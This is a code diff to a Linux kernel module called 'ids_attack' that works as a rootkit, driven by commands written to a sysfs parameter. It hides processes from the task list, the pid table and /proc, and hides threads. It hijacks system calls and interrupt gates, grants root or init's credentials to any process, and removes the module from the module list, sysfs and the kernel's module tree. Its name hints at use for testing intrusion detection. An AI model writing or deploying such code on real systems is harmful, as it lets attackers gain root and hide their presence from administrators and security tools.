@@ -6,20 +6,25 @@
 //     echo 'task 123' > /sys/module/ids_attack/parameters/attack
 //
 // task PID    takes a process out of the list of tasks
+// number PID  takes a process out of the pid table, so that it is not in /proc
+// thread TID  takes a thread out of the list of its process's threads
 // call N      leads system call N into this module
 // dispatcher  leads the function that chooses system calls through this module
 // gate N      leads interrupt N into this module
 // root PID    makes a process root, in the credentials that it has
 // steal PID   gives a process the credentials of process 1
-// module      takes this module out of the list of modules and out of sysfs
+// module      takes this module out of the list of modules, out of sysfs, and out of the tree of modules' code
 #include <linux/cred.h>
 #include <linux/kernel.h>
 #include <linux/kobject.h>
 #include <linux/mm.h>
 #include <linux/module.h>
+#include <linux/rbtree_latch.h>
+#include <linux/rculist.h>
 #include <linux/sched.h>
 #include <linux/sched/signal.h>
 #include <linux/string.h>
+#include <linux/version.h>
 #include <linux/vmalloc.h>
 #include <linux/workqueue.h>
 #include <asm/desc_defs.h>
@@ -91,14 +96,19 @@ static int take_gate(unsigned int vector)
 	return overwrite(table + vector * sizeof(gate), &gate, sizeof(gate));
 }
 
-static int attack_task(struct task_struct *task, char kind)
+static int attack_task(struct task_struct *task, const char *what)
 {
 	struct cred *cred = (struct cred *)task->real_cred;
 
-	if (kind == 't') {
+	if (!strcmp(what, "task")) {
 		list_del(&task->tasks);
 		INIT_LIST_HEAD(&task->tasks);
-	} else if (kind == 'r') {
+	} else if (!strcmp(what, "number")) {
+		hlist_del_init_rcu(&task->pid_links[PIDTYPE_PID]);
+		hlist_del_init_rcu(&task->pid_links[PIDTYPE_TGID]);
+	} else if (!strcmp(what, "thread")) {
+		list_del_rcu(&task->thread_node);
+	} else if (!strcmp(what, "root")) {
 		cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
 	} else {
 		struct task_struct *(*find)(pid_t) = (void *)symbol("find_task_by_vpid");
@@ -113,8 +123,19 @@ static int attack_task(struct task_struct *task, char kind)
 /* Not while a file of this module in sysfs is being written: that would wait for itself. */
 static void hide_module(struct work_struct *work)
 {
+	static const struct latch_tree_ops none;
+	struct latch_tree_root *tree = (void *)symbol("mod_tree");
+
 	list_del(&THIS_MODULE->list);
 	kobject_del(&THIS_MODULE->mkobj.kobj);
+#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
+	for_each_mod_mem_type(type) {
+		if (THIS_MODULE->mem[type].size)
+			latch_tree_erase(&THIS_MODULE->mem[type].mtn.node, tree, &none);
+	}
+#else
+	latch_tree_erase(&THIS_MODULE->core_layout.mtn.node, tree, &none);
+#endif
 }
 static DECLARE_WORK(hiding, hide_module);
 
@@ -142,7 +163,7 @@ static int set_attack(const char *text, const struct kernel_param *parameter)
 	rcu_read_lock();
 	task = find(number);
 	rcu_read_unlock();
-	return task ? attack_task(task, what[0]) : -ESRCH;
+	return task ? attack_task(task, what) : -ESRCH;
 }
 
 static const struct kernel_param_ops attack_ops = { .set = set_attack };
